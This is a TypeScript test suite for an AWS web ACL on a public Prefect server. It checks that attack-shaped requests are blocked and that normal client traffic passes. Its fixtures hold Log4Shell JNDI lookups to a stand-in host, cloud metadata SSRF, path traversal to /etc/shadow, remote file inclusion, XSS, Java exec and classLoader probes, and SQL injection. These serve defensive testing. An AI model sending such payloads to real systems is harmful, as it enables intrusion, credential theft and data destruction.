import { publicRules } from './public-rules';
import { blockedBy, HttpRequest } from './web-acl';

/** What the web ACL of a public server does with requests, judged by what AWS documents of its groups. That real clients pass is seen in test/live/server.test.ts. */
const rules = publicRules();
const withSql = publicRules({ sqlInjectionRules: true });

const request = ({ headers, ...rest }: Partial<HttpRequest>): HttpRequest =>
  ({ method: 'GET', url: '/api/health', body: '', ...rest, headers: { 'host': 'prefect.example.com', 'user-agent': 'prefect/3.9.1', ...headers } });

test.each<[string, Partial<HttpRequest>]>([
  ['no user agent', { headers: { 'user-agent': undefined } }],
  ['a scanner', { headers: { 'user-agent': 'sqlmap/1.7' } }],
  ['another scanner', { headers: { 'user-agent': 'Mozilla/5.00 (Nikto/2.1.6)' } }],
  ['a path of a kilobyte and more', { url: `/api/${'a'.repeat(1100)}` }],
  ['a query of two kilobytes and more', { url: `/api/flows?name=${'a'.repeat(2100)}` }],
  ['a cookie of ten kilobytes and more', { headers: { cookie: `a=${'b'.repeat(10_500)}` } }],
  ['the metadata of the instance in the query', { url: '/api/flows?url=http://169.254.169.254/latest/meta-data/' }],
  ['the metadata of the instance in a cookie', { headers: { cookie: 'next=http://169.254.169.254/' } }],
  ['the metadata of the instance in the path', { url: '/api/proxy/169.254.169.254/latest' }],
  ['a way up the directories in the path', { url: '/static/..%2f..%2f..%2fetc%2fpasswd' }],
  ['a way up the directories in the query', { url: '/api/blocks?file=../../../../etc/shadow' }],
  ['a file on another host', { url: '/api/flows?template=http://203.0.113.7/evil.txt' }],
  ['a file on another host in the path', { url: '/http://203.0.113.7/evil.txt' }],
  ['a configuration in the query', { url: '/api/blocks?file=settings.ini' }],
  ['a script in the query', { url: '/v2/login?redirectTo=<script>alert(1)</script>' }],
  ['an encoded script in the query', { url: '/v2/login?redirectTo=%3Cscript%3Ealert(1)%3C%2Fscript%3E' }],
  ['a script in a cookie', { headers: { cookie: 'name=<script>alert(1)</script>' } }],
  ['a script in the path', { url: '/<script>alert(1)</script>' }],
  ['an image with an event', { url: '/v2?name=<img src=x onerror=alert(1)>' }],
  ['Log4j in a header', { headers: { 'x-api-version': '${jndi:ldap://203.0.113.7/a}' } }],
  ['Log4j in the query', { url: '/api/flows?name=${jndi:ldap://203.0.113.7/a}' }],
  ['Log4j in the path', { url: '/${jndi:dns://203.0.113.7}' }],
  ['Log4j in the user agent', { headers: { 'user-agent': '${jndi:ldap://203.0.113.7/a}' } }],
  ['Java in a header', { headers: { 'x-class': '(java.lang.Runtime).getRuntime().exec("whoami")' } }],
  ['Java in the query', { url: '/api?class.module.classLoader.resources=1' }],
  ['a host that is none', { headers: { host: 'localhost' } }],
  ['the method PROPFIND', { method: 'PROPFIND' }],
  ['a repository', { url: '/.git/config' }],
  ['an environment', { url: '/.env' }],
  ['an application of Java', { url: '/WEB-INF/web.xml' }],
])('an attack is blocked: %s', (_, attack) => {
  expect(blockedBy(rules, request(attack))).toBeDefined();
});

test.each<[string, Partial<HttpRequest>]>([
  ['a union in the query', { url: '/api/flows?id=1 UNION SELECT password FROM users' }],
  ['a condition in the query', { url: '/api/flows?id=1%20OR%201=1' }],
  ['a statement in a cookie', { headers: { cookie: 'id=1; DROP TABLE users' } }],
])('SQL is blocked where its rules are asked for: %s', (_, attack) => {
  expect(blockedBy(withSql, request(attack))).toMatch(/^AWSManagedRulesSQLiRuleSet\//);
  expect(blockedBy(rules, request(attack))).toBeUndefined();
});

test.each<[string, Partial<HttpRequest>]>([
  ['logs of 30 KB', { method: 'POST', url: '/api/logs/', body: 'x'.repeat(30_000) }],
  ['SQL in a log', { method: 'POST', url: '/api/logs/', body: '[{"message":"SELECT * FROM users WHERE 1 OR 1=1; --"}]' }],
  ['HTML in an artifact', { method: 'POST', url: '/api/artifacts/', body: '{"data":"<script>draw()</script>"}' }],
  ['addresses in a parameter', { method: 'POST', url: '/api/deployments/1/create_flow_run', body: '{"parameters":{"url":"http://10.1.2.3/a.csv","meta":"http://169.254.169.254/"}}' }],
  ['paths in an exception', { method: 'POST', url: '/api/flow_runs/1/set_state', body: '{"state":{"message":"No such file: ../../etc/passwd"}}' }],
  ['a variable that is named as a file', { url: '/api/variables/name/settings.ini' }],
])('what clients of Prefect send is not: %s', (_, sent) => {
  expect(blockedBy(withSql, request(sent))).toBeUndefined();
});

test('a group whose exceptions were forgotten would block it', () => {
  const [, ...groups] = rules;
  const strict = groups.map(({ Statement: { ManagedRuleGroupStatement: group }, ...rule }) =>
    ({ ...rule, Statement: { ManagedRuleGroupStatement: { ...group, RuleActionOverrides: [] } } }));
  expect(blockedBy(strict, request({ method: 'POST', url: '/api/logs/', body: 'x'.repeat(30_000) }))).toBe('AWSManagedRulesCommonRuleSet/SizeRestrictions_BODY');
});

test('where it only counts, nothing is blocked', () => {
  expect(blockedBy(publicRules({ countOnly: true }), request({ method: 'PROPFIND' }))).toBeUndefined();
});
